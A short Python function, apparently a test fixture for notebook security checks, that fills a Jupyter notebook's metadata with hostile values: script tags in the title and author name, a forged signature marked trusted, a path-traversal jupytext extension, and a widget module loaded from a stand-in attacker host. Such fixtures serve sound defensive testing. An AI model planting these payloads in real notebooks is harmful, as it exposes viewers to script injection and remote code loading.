"""Notebook: a title with a script, widgets' state, a signature, jupytext's pairs, authors."""

from __future__ import annotations

from typing import Any


def change(notebook: dict[str, Any]) -> None:
    notebook["metadata"] |= {
        "title": "</title><script>steal()</script>",
        "authors": [{"name": "<script>steal()</script>"}],
        "signature": "sha256:" + "0" * 64,
        "trusted": True,
        "jupytext": {"formats": "ipynb,py:percent", "text_representation": {"extension": "../../../source/x.py"}},
        "widgets": {
            "application/vnd.jupyter.widget-state+json": {
                "state": {"a": {"model_module": "https://evil.example/x.js", "model_name": "X", "state": {}}},
                "version_major": 2,
                "version_minor": 0,
            }
        },
    }
